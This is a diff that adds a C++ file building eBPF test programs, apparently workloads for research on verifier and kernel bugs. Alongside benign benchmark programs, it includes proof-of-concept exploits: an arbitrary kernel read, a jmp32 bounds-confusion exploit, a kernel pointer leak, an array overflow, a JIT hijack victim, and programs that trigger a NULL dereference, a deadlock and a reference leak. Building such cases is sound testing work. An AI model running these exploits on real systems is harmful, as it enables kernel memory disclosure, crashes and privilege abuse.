@@ -1,0 +1,351 @@
+#include "src/analysis/workloads.h"
+
+#include "src/ebpf/helper.h"
+#include "src/xbase/strfmt.h"
+
+namespace analysis {
+
+using namespace ebpf;  // NOLINT: assembler DSL (R0..R10, BPF_* opcodes)
+using xbase::StrFormat;
+using xbase::u32;
+
+xbase::Result<Program> BuildSysBpfNullCrash() {
+  ProgramBuilder b("sys_bpf_null_crash", ProgType::kSyscall);
+  // A zeroed 24-byte attr union on the stack. For BPF_PROG_LOAD the qword
+  // at offset 8 is the instruction-buffer pointer — left NULL.
+  b.Ins(StMemImm(BPF_DW, R10, -24, 0))
+      .Ins(StMemImm(BPF_DW, R10, -16, 0))  // attr+8: insns ptr = NULL
+      .Ins(StMemImm(BPF_DW, R10, -8, 0))
+      .Ins(Mov64Imm(R1, static_cast<s32>(kSysBpfProgLoad)))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -24))
+      .Ins(Mov64Imm(R3, 24))
+      .Ins(CallHelper(kHelperSysBpf))
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildNestedLoopStall(int map_fd, u32 nesting,
+                                            u32 iters) {
+  if (nesting == 0) {
+    return xbase::InvalidArgument("need at least one loop level");
+  }
+  ProgramBuilder b("nested_loop_stall", ProgType::kKprobe);
+
+  // Main: kick off level 0.
+  b.Ins(Mov64Imm(R1, static_cast<s32>(iters)))
+      .LdFuncTo(R2, "level0")
+      .Ins(Mov64Imm(R3, 0))
+      .Ins(Mov64Imm(R4, 0))
+      .Ins(CallHelper(kHelperLoop))
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+
+  // Intermediate levels: each iteration starts the next level's loop.
+  for (u32 level = 0; level + 1 < nesting; ++level) {
+    b.Bind(StrFormat("level%u", level))
+        .Ins(Mov64Imm(R1, static_cast<s32>(iters)))
+        .LdFuncTo(R2, StrFormat("level%u", level + 1))
+        .Ins(Mov64Imm(R3, 0))
+        .Ins(Mov64Imm(R4, 0))
+        .Ins(CallHelper(kHelperLoop))
+        .Ins(Mov64Imm(R0, 0))
+        .Ins(Exit());
+  }
+
+  // Innermost body: a map update per iteration (the paper's "random reads
+  // and writes on an eBPF map object").
+  b.Bind(StrFormat("level%u", nesting - 1))
+      .Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(StxMem(BPF_DW, R10, R1, -16))  // value = loop index
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(Mov64Reg(R3, R10))
+      .Ins(Alu64Imm(BPF_ADD, R3, -16))
+      .Ins(Mov64Imm(R4, 0))
+      .Ins(CallHelper(kHelperMapUpdateElem))
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildArbitraryReadExploit(int map_fd,
+                                                 xbase::s32 stride) {
+  ProgramBuilder b("arbitrary_read", ProgType::kKprobe);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(Alu64Imm(BPF_ADD, R0, stride))  // walk off the value
+      .Ins(LdxMem(BPF_DW, R0, R0, 0))      // read foreign kernel memory
+      .Ins(Exit())
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildJmp32BoundsExploit(int map_fd) {
+  ProgramBuilder b("jmp32_bounds", ProgType::kKprobe);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      // r7 = 2^32 + 8: the low 32 bits look like a small index.
+      .Ins(LdImm64(R7, (1ULL << 32) + 8))
+      // 32-bit compare: taken when (u32)r7 >= 16 — it is 8, so execution
+      // falls through. The buggy verifier concludes r7 < 16 in 64 bits.
+      .Ins(Jmp32Imm(BPF_JGE, R7, 16, 0))  // offset fixed below via label
+      .Ins(Alu64Reg(BPF_ADD, R0, R7))
+      .Ins(LdxMem(BPF_DW, R1, R0, 0))
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  // Fix the jmp32 target manually: jump to "out".
+  auto prog = b.Build();
+  if (!prog.ok()) {
+    return prog;
+  }
+  Program fixed = std::move(prog).value();
+  for (u32 pc = 0; pc < fixed.len(); ++pc) {
+    Insn& insn = fixed.insns[pc];
+    if (insn.Class() == BPF_JMP32 && insn.JmpOp() == BPF_JGE) {
+      insn.off = static_cast<s16>(fixed.len() - 3 - pc);  // to "out"
+    }
+  }
+  return fixed;
+}
+
+xbase::Result<Program> BuildPtrLeakExploit(int map_fd) {
+  ProgramBuilder b("ptr_leak", ProgType::kSocketFilter);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(Exit())  // r0 is a kernel address: leaked to userspace
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildDoubleSpinLock(int map_fd) {
+  ProgramBuilder b("double_spin_lock", ProgType::kKprobe);
+  b.Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(Mov64Reg(R6, R0))
+      .Ins(Mov64Reg(R1, R6))
+      .Ins(CallHelper(kHelperSpinLock))
+      .Ins(Mov64Reg(R1, R6))
+      .Ins(CallHelper(kHelperSpinLock))  // self-deadlock
+      .Ins(Mov64Reg(R1, R6))
+      .Ins(CallHelper(kHelperSpinUnlock))
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildSkLookupNoRelease() {
+  ProgramBuilder b("sk_lookup_no_release", ProgType::kXdp);
+  b.Ins(Mov64Reg(R6, R1))
+      // bpf_sock_tuple{src=10.0.0.1:8080, dst=10.0.0.2:40000} on the stack.
+      .Ins(StMemImm(BPF_W, R10, -12, 0x0a000001))
+      .Ins(StMemImm(BPF_W, R10, -8, 0x0a000002))
+      .Ins(StMemImm(BPF_H, R10, -4, 8080))
+      .Ins(StMemImm(BPF_H, R10, -2, 40000))
+      .Ins(Mov64Reg(R1, R6))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -12))
+      .Ins(Mov64Imm(R3, 12))
+      .Ins(Mov64Imm(R4, 0))
+      .Ins(Mov64Imm(R5, 0))
+      .Ins(CallHelper(kHelperSkLookupTcp))
+      // No bpf_sk_release: the reference leaks.
+      .Ins(Mov64Imm(R0, 2))  // XDP_PASS
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildSkLookupWithRelease() {
+  ProgramBuilder b("sk_lookup_with_release", ProgType::kXdp);
+  b.Ins(Mov64Reg(R6, R1))
+      .Ins(StMemImm(BPF_W, R10, -12, 0x0a000001))
+      .Ins(StMemImm(BPF_W, R10, -8, 0x0a000002))
+      .Ins(StMemImm(BPF_H, R10, -4, 8080))
+      .Ins(StMemImm(BPF_H, R10, -2, 40000))
+      .Ins(Mov64Reg(R1, R6))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -12))
+      .Ins(Mov64Imm(R3, 12))
+      .Ins(Mov64Imm(R4, 0))
+      .Ins(Mov64Imm(R5, 0))
+      .Ins(CallHelper(kHelperSkLookupTcp))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(Mov64Reg(R1, R0))
+      .Ins(CallHelper(kHelperSkRelease))
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 2))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildGetTaskStackErrorPath() {
+  ProgramBuilder b("get_task_stack_err", ProgType::kKprobe);
+  b.Ins(CallHelper(kHelperGetCurrentTask))
+      .Ins(Mov64Reg(R1, R0))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -8))
+      .Ins(Mov64Imm(R3, 4))  // undersized: forces the helper error path
+      .Ins(Mov64Imm(R4, 0))
+      .Ins(CallHelper(kHelperGetTaskStack))
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildTaskStorageNullOwner(int storage_fd) {
+  ProgramBuilder b("task_storage_null", ProgType::kKprobe);
+  b.Ins(LdMapFd(R1, storage_fd))
+      .Ins(Mov64Imm(R2, 0))  // NULL task pointer
+      .Ins(Mov64Imm(R3, 0))
+      .Ins(Mov64Imm(R4, 1))  // CREATE
+      .Ins(CallHelper(kHelperTaskStorageGet))
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildArrayOverflowExploit(int map_fd, u32 hi_index) {
+  ProgramBuilder b("array_overflow", ProgType::kKprobe);
+  // Write a marker to the high index (its wrapped offset aliases a low
+  // element under the defect), then read element 0 back.
+  b.Ins(StMemImm(BPF_W, R10, -4, static_cast<s32>(hi_index)))
+      .Ins(StMemImm(BPF_DW, R10, -16, 0x41414141))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(Mov64Reg(R3, R10))
+      .Ins(Alu64Imm(BPF_ADD, R3, -16))
+      .Ins(Mov64Imm(R4, 0))
+      .Ins(CallHelper(kHelperMapUpdateElem))
+      .Ins(StMemImm(BPF_W, R10, -4, 0))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "out")
+      .Ins(LdxMem(BPF_DW, R0, R0, 0))  // corruption witness
+      .Ins(Exit())
+      .Bind("out")
+      .Ins(Mov64Imm(R0, 0))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildJitHijackVictim() {
+  ProgramBuilder b("jit_hijack_victim", ProgType::kKprobe);
+  b.Ins(Mov64Imm(R6, 1))
+      .JmpTo(BPF_JNE, R6, 0, "done");  // always taken; off > 15
+  // 16 filler instructions, then a load through R8 — which is never
+  // initialized on the (only) verified path. The corrupted JIT lands the
+  // branch here.
+  for (int i = 0; i < 16; ++i) {
+    b.Ins(Mov64Imm(R7, i));
+  }
+  b.Ins(LdxMem(BPF_DW, R0, R8, 0))
+      .Bind("done")
+      .Ins(Mov64Imm(R0, 42))
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildStraightLine(u32 len) {
+  if (len < 2) {
+    return xbase::InvalidArgument("need room for mov+exit");
+  }
+  ProgramBuilder b("straight_line", ProgType::kKprobe);
+  b.Ins(Mov64Imm(R0, 0));
+  for (u32 i = 0; i + 2 < len; ++i) {
+    b.Ins(Alu64Imm(BPF_ADD, R0, 1));
+  }
+  b.Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildBranchDiamonds(u32 branches) {
+  ProgramBuilder b("branch_diamonds", ProgType::kXdp);
+  // r6 = packet length: an unknown scalar the verifier cannot fold, so
+  // every diamond doubles the live path count.
+  b.Ins(LdxMem(BPF_W, R6, R1, 0)).Ins(Mov64Imm(R0, 0));
+  for (u32 i = 0; i < branches; ++i) {
+    const std::string set = StrFormat("set%u", i);
+    const std::string join = StrFormat("join%u", i);
+    b.JmpTo(BPF_JSET, R6, static_cast<s32>(1u << (i % 16)), set)
+        .Ins(Alu64Imm(BPF_ADD, R0, 1))
+        .JaTo(join)
+        .Bind(set)
+        .Ins(Alu64Imm(BPF_ADD, R0, 2))
+        .Bind(join);
+  }
+  b.Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildCountedLoop(u32 trip_count) {
+  ProgramBuilder b("counted_loop", ProgType::kKprobe);
+  b.Ins(Mov64Imm(R6, 0))
+      .Ins(Mov64Imm(R0, 0))
+      .Bind("top")
+      .JmpTo(BPF_JGE, R6, static_cast<s32>(trip_count), "done")
+      .Ins(Alu64Reg(BPF_ADD, R0, R6))
+      .Ins(Alu64Imm(BPF_ADD, R6, 1))
+      .JaTo("top")
+      .Bind("done")
+      .Ins(Exit());
+  return b.Build();
+}
+
+xbase::Result<Program> BuildPacketCounter(int map_fd) {
+  ProgramBuilder b("packet_counter", ProgType::kXdp);
+  b.Ins(Mov64Reg(R6, R1))
+      .Ins(LdxMem(BPF_DW, R2, R1, 8))   // data
+      .Ins(LdxMem(BPF_DW, R3, R1, 16))  // data_end
+      .Ins(Mov64Reg(R4, R2))
+      .Ins(Alu64Imm(BPF_ADD, R4, 14))
+      .JmpRegTo(BPF_JGT, R4, R3, "drop")  // runt frame: drop
+      .Ins(LdxMem(BPF_B, R5, R2, 12))     // "protocol" byte
+      .Ins(Alu64Imm(BPF_AND, R5, 3))
+      .Ins(Mov64Reg(R7, R5))              // survive the helper call
+      .Ins(StxMem(BPF_W, R10, R5, -4))
+      .Ins(LdMapFd(R1, map_fd))
+      .Ins(Mov64Reg(R2, R10))
+      .Ins(Alu64Imm(BPF_ADD, R2, -4))
+      .Ins(CallHelper(kHelperMapLookupElem))
+      .JmpTo(BPF_JEQ, R0, 0, "verdict")
+      .Ins(LdxMem(BPF_DW, R1, R0, 0))
+      .Ins(Alu64Imm(BPF_ADD, R1, 1))
+      .Ins(StxMem(BPF_DW, R0, R1, 0))
+      .Bind("verdict")
+      .JmpTo(BPF_JEQ, R7, 3, "drop")  // denylisted class
+      .Ins(Mov64Imm(R0, 2))           // XDP_PASS
+      .Ins(Exit())
+      .Bind("drop")
+      .Ins(Mov64Imm(R0, 1))  // XDP_DROP
+      .Ins(Exit());
+  return b.Build();
+}
+
+}  // namespace analysis
